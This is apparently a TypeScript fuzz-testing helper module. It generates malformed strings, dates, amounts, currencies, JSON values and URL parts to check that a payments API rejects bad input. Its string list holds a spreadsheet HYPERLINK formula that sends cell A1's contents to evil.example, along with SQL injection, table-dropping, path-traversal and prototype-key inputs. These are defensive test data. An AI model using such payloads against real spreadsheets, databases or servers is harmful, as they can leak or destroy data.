import fc from 'fast-check';

/**
 * Building blocks for the fuzz suites: strings, dates, amounts and JSON values chosen to hit the
 * places where lenient parsing goes wrong (rolled-over dates, exponents, 1000-digit amounts, NUL,
 * lone surrogates, prototype keys, formula-looking text), mixed with plain random values.
 */

/** Strings that broke, or could break, a parser, a SQL parameter, a path or a CSV cell. */
export const NASTY_STRINGS = [
  '',
  ' ',
  '   ',
  '\u0000',
  'a\u0000b',
  '\u0001',
  '\u007f',
  '\u0085',
  '\t',
  '\r\n',
  '\n',
  '\u2028',
  '\u202e',
  '\ufeff',
  '\ufffd',
  '\ud800',
  'x\udc00y',
  '💸',
  '👩‍👩‍👧',
  'İ',
  'ß',
  'ｐａｒｔｎｅｒ',
  '..',
  '.',
  '../..',
  '..%2f..',
  '%00',
  '%',
  '%ZZ',
  '%e2%82',
  '/',
  '\\',
  '?',
  '#',
  '&',
  '=HYPERLINK("https://evil.example/?"&A1,"x")',
  '+1',
  '-1',
  '@SUM(A1)',
  "' OR 1=1 --",
  '"; DROP TABLE ledger_events; --',
  '$1',
  'constructor',
  '__proto__',
  'prototype',
  'toString',
  'hasOwnProperty',
  'valueOf',
  'null',
  'undefined',
  'true',
  'NaN',
  'Infinity',
  '-0',
  '1e400',
  'P-1',
  'p-1',
  'P-1 ',
  ' P-1',
  'P-2',
  'C-1',
  'CU-a1',
  'default-v1',
  'x'.repeat(256),
  'x'.repeat(257),
  'é'.repeat(300),
  'x'.repeat(5000),
];

/** A lone half of a surrogate pair: JSON.stringify writes it as an escape, which the strict parser must refuse. */
const loneSurrogate = fc.integer({ min: 0xd800, max: 0xdfff }).map((code) => String.fromCharCode(code));
const controlCharacter = fc
  .integer({ min: 0, max: 0x9f })
  .filter((code) => code < 0x20 || code >= 0x7f)
  .map((code) => String.fromCharCode(code));

export const anyString: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...NASTY_STRINGS) },
  { weight: 2, arbitrary: fc.string({ maxLength: 40 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 20 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 20 }) },
  {
    weight: 1,
    arbitrary: fc.string({ unit: fc.oneof(fc.constantFrom('a', '-', '1'), loneSurrogate, controlCharacter), minLength: 1, maxLength: 6 }),
  },
);

/** An identifier-looking string: mostly sane, sometimes not. */
export const idString: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.stringMatching(/^[A-Za-z][A-Za-z0-9_.-]{0,15}$/) },
  { weight: 2, arbitrary: anyString },
);

// ---------------------------------------------------------------------------------------------
// Dates and instants

const pad = (value: number, width = 2) => String(value).padStart(width, '0');

export function daysInMonth(year: number, month: number): number {
  if (month === 2) return year % 4 === 0 && (year % 100 !== 0 || year % 400 === 0) ? 29 : 28;
  return [4, 6, 9, 11].includes(month) ? 30 : 31;
}

/** Dates the product must accept: existing days, zones, fractions, lower-case letters, leap days. */
export const validInstant: fc.Arbitrary<string> = fc
  .record({
    ms: fc.integer({ min: Date.parse('2025-06-01T00:00:00Z'), max: Date.parse('2026-12-31T23:59:59Z') }),
    form: fc.constantFrom('iso', 'z', 'offset', 'lower', 'fraction', 'plain'),
    offsetMinutes: fc.integer({ min: -(23 * 60 + 59), max: 23 * 60 + 59 }),
  })
  .map(({ ms, form, offsetMinutes }) => {
    const iso = new Date(ms).toISOString();
    switch (form) {
      case 'iso':
        return iso;
      case 'z':
        return `${iso.slice(0, 19)}Z`;
      case 'lower':
        return `${iso.slice(0, 10)}t${iso.slice(11, 19)}z`;
      case 'fraction':
        return `${iso.slice(0, 19)}.${String(ms).slice(-7)}Z`;
      case 'plain':
        return iso.slice(0, 10);
      default: {
        const local = new Date(ms + offsetMinutes * 60_000).toISOString();
        const sign = offsetMinutes < 0 ? '-' : '+';
        const abs = Math.abs(offsetMinutes);
        return `${local.slice(0, 19)}${sign}${pad(Math.floor(abs / 60))}:${pad(abs % 60)}`;
      }
    }
  });

/** Date strings that are not dates, or not the day they seem to name. Every one must be refused where an instant is expected. */
export const INVALID_DATE_STRINGS = [
  '2025-02-29',
  '2025-02-30',
  '2100-02-29',
  '2026-04-31',
  '2026-04-31T10:00:00Z',
  '2026-13-01',
  '2026-00-10',
  '2026-01-00',
  '2026-01-32T00:00:00Z',
  '2026-03-04T24:00:00Z',
  '2026-03-04T23:60:00Z',
  '2026-03-04T23:59:60Z',
  '2026-03-04T10:00:00+24:00',
  '2026-03-04T10:00:00+23:60',
  '2026-03-04T10:00:00.Z',
  '2026-03-04T10:00:00,5Z',
  '2026-03-04T10:00Z',
  '2026-03-04 10:00:00',
  '2026-03-04T10:00:00',
  '0000-01-01',
  '0000-12-31T23:59:59Z',
  '0001-01-01T00:00:00+00:01',
  '9999-12-31T23:59:59-00:01',
  '10000-01-01T00:00:00Z',
  '+002026-03-04T10:00:00Z',
  '-000001-01-01T00:00:00Z',
  '2026-3-4',
  '20260304',
  '2026-W10-3',
  '2026-063',
  'now',
  'today',
  '1772618400000',
  ' 2026-03-04',
  '2026-03-04 ',
  '2026-03-04\u0000',
  '2026-03-04\n',
  '２０２６-０３-０４',
  'Wed, 04 Mar 2026 10:00:00 GMT',
  '2026-03-04T10:00:00Z[Europe/Paris]',
  '',
  'null',
];

export const invalidDateString = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...INVALID_DATE_STRINGS) },
  // Any month/day pair that does not exist in that year.
  {
    weight: 2,
    arbitrary: fc
      .record({
        year: fc.integer({ min: 1, max: 9999 }),
        month: fc.integer({ min: 0, max: 99 }),
        day: fc.integer({ min: 0, max: 99 }),
        time: fc.boolean(),
      })
      .filter(({ year, month, day }) => month < 1 || month > 12 || day < 1 || day > daysInMonth(year, month))
      .map(({ year, month, day, time }) => `${pad(year, 4)}-${pad(month)}-${pad(day)}${time ? 'T12:00:00Z' : ''}`),
  },
  { weight: 1, arbitrary: fc.string({ maxLength: 12 }).filter((text) => !/^\d{4}-\d{2}-\d{2}/.test(text)) },
);

/** Anything that may arrive where a date is expected, valid or not, as a JSON value. */
export const anyDateValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 3, arbitrary: validInstant },
  { weight: 4, arbitrary: invalidDateString },
  { weight: 1, arbitrary: fc.constantFrom<unknown>(null, 0, 1772618400000, -1, true, [], {}, ['2026-03-04'], { date: '2026-03-04' }) },
);

// ---------------------------------------------------------------------------------------------
// Amounts and currencies

export const CURRENCIES = ['USD', 'EUR', 'JPY', 'KWD', 'CLF', 'GBP'];
export const ODD_CURRENCIES = ['XXX', 'XAU', 'XTS', 'usd', 'Usd', 'US', 'USDD', '', ' USD', 'USD ', 'ＵＳＤ', '€', '$', 'ABC', 'US\u0000'];

/** Amounts the contract allows for USD (at most 15 integer digits, at most 2 decimals). */
export const validUsdAmount: fc.Arbitrary<string> = fc
  .record({ units: fc.bigInt({ min: 1n, max: 999_999_999_999_999n }), cents: fc.integer({ min: 0, max: 99 }), small: fc.boolean() })
  .map(({ units, cents, small }) => (small ? `${Number(units % 1000n)}.${pad(cents)}` : `${units}.${pad(cents)}`))
  .filter((amount) => amount !== '0.00');

/** Amount strings every money field must refuse. */
export const INVALID_AMOUNT_STRINGS = [
  '1e5',
  '1E-2',
  '1.5e3',
  '+5.00',
  ' 5.00',
  '5.00 ',
  '5,00',
  '1,000.00',
  '1_000',
  '.5',
  '5.',
  '-',
  '.',
  '',
  '--5',
  '0x10',
  'Infinity',
  'NaN',
  '٥.٠٠',
  '５.００',
  '5.001',
  '0.123456789',
  '1000000000000000',
  '1000000000000000.00',
  '9999999999999999.99',
  '123456789012345678901234567890123456789012345.00',
  '9'.repeat(1000),
  `1.${'0'.repeat(500)}1`,
  '00.50',
  '007',
  '5\u0000',
];

export const invalidAmountString = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...INVALID_AMOUNT_STRINGS) },
  { weight: 1, arbitrary: fc.integer({ min: 16, max: 60 }).map((digits) => `${'9'.repeat(digits)}.00`) },
  { weight: 1, arbitrary: fc.integer({ min: 3, max: 30 }).map((decimals) => `1.${'1'.repeat(decimals)}`) },
);

/** Anything that may arrive where an amount string is expected. */
export const anyAmountValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 3, arbitrary: validUsdAmount },
  { weight: 4, arbitrary: invalidAmountString },
  { weight: 1, arbitrary: fc.constantFrom<unknown>(null, 0, 5, 5.5, 1e308, -1, true, [], {}, ['5.00'], { amount: '5.00' }) },
  { weight: 1, arbitrary: fc.double().map((value) => String(value)) },
);

export const anyMoneyValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 4, arbitrary: fc.record({ amount: anyAmountValue, currency: fc.constantFrom(...CURRENCIES, ...ODD_CURRENCIES) }) },
  {
    weight: 1,
    arbitrary: fc.record({ amount: validUsdAmount, currency: fc.constant('USD'), extra: anyString }, { requiredKeys: ['amount'] }),
  },
  {
    weight: 1,
    arbitrary: fc.constantFrom<unknown>(
      null,
      '5.00 USD',
      5,
      [],
      {},
      { amount: '5.00' },
      { currency: 'USD' },
      { constructor: 1, amount: '5.00', currency: 'USD' },
    ),
  },
);

// ---------------------------------------------------------------------------------------------
// JSON values

/** Keys that trip code which walks objects with prototypes in mind. */
export const ODD_KEYS = [
  'constructor',
  '__proto__',
  'prototype',
  'toString',
  'hasOwnProperty',
  '',
  ' ',
  'a.b',
  '[0]',
  '\u0000',
  'ÿ',
  '💸',
  'x'.repeat(300),
];

const oddKey = fc.oneof(fc.constantFrom(...ODD_KEYS), fc.string({ maxLength: 8 }));

/** Random JSON, including keys and values that upset lenient code. */
export const anyJson: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 3, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
  { weight: 2, arbitrary: anyString },
  {
    weight: 1,
    arbitrary: fc.constantFrom<unknown>(null, true, false, 0, -1, 1.5, 1e308, -1e-308, Number.MAX_SAFE_INTEGER + 2, [], {}, [[]], [{}], {
      '': null,
    }),
  },
  { weight: 1, arbitrary: fc.dictionary(oddKey, fc.jsonValue({ maxDepth: 1 }), { maxKeys: 3 }) },
  { weight: 1, arbitrary: fc.integer({ min: 2, max: 70 }).map((depth) => nest(depth, 'x')) },
);

/** Objects and arrays `depth` levels deep, alternating, around `leaf`. */
export function nest(depth: number, leaf: unknown): unknown {
  let value = leaf;
  for (let level = 0; level < depth; level += 1) value = level % 2 === 0 ? [value] : { n: value };
  return value;
}

// ---------------------------------------------------------------------------------------------
// Query strings and path segments

/** Percent-encodes everything outside unreserved ASCII, the way a careful client would. */
export function encodeSegment(text: string): string {
  // encodeURIComponent throws on lone surrogates: write their (invalid) UTF-8 bytes by hand.
  return Array.from(text)
    .map((char) => {
      const code = char.charCodeAt(0);
      if (char.length === 1 && code >= 0xd800 && code <= 0xdfff)
        return `%ED%${(0xa0 + ((code >> 6) & 0x1f)).toString(16).toUpperCase()}%${(0x80 + (code & 0x3f)).toString(16).toUpperCase()}`;
      return encodeURIComponent(char);
    })
    .join('');
}

/** A path segment as it goes on the wire: encoded properly, or sent raw where the HTTP client allows it. */
export const pathSegment = (value: fc.Arbitrary<string>): fc.Arbitrary<string> =>
  fc.oneof(
    { weight: 4, arbitrary: value.map(encodeSegment) },
    // Raw: the client accepts bytes 0x21-0xFF in a path; what it refuses, and "/" (it would make two segments), stays encoded.
    {
      weight: 1,
      arbitrary: value.map((text) =>
        Array.from(text)
          .map((char) => (/^[\u0021-\u00ff]$/.test(char) && !'?#/'.includes(char) ? char : encodeSegment(char)))
          .join(''),
      ),
    },
    {
      weight: 1,
      arbitrary: fc.constantFrom(
        '..',
        '.',
        '%2e%2e',
        '%2E',
        '..%2F..%2Fhealth',
        '%',
        '%Z',
        '%ZZ',
        '%C0%AE',
        '%FF',
        '%00',
        '%e2%82%ac',
        'a;b',
        'x'.repeat(8000),
        '%2F',
      ),
    },
  );

export interface QueryParam {
  name: string;
  value: string;
  /** Sent as written (may hold broken percent-encoding) rather than encoded. */
  raw?: boolean;
}

export function queryString(params: QueryParam[]): string {
  if (params.length === 0) return '';
  return `?${params.map(({ name, value, raw }) => (raw ? `${name}=${value}` : `${encodeSegment(name)}=${encodeSegment(value)}`)).join('&')}`;
}

/** A query parameter of any name and value: junk the product must refuse or ignore, never crash on. */
export const junkParam: fc.Arbitrary<QueryParam> = fc.oneof(
  fc.record({
    name: fc.constantFrom('limit', 'cursor', 'page', 'x', 'asOf[]', 'asOf[0]', 'a[b]', '__proto__', 'constructor', '', '%00'),
    value: anyString,
  }),
  fc.record({ name: anyString, value: anyString }),
  fc.record({
    name: fc.constantFrom('a', 'asOf', 'from', 'limit'),
    value: fc.constantFrom('%', '%ZZ', '%00', '%C0%80', '%FF%FE', '%ED%A0%80'),
    raw: fc.constant(true),
  }),
);
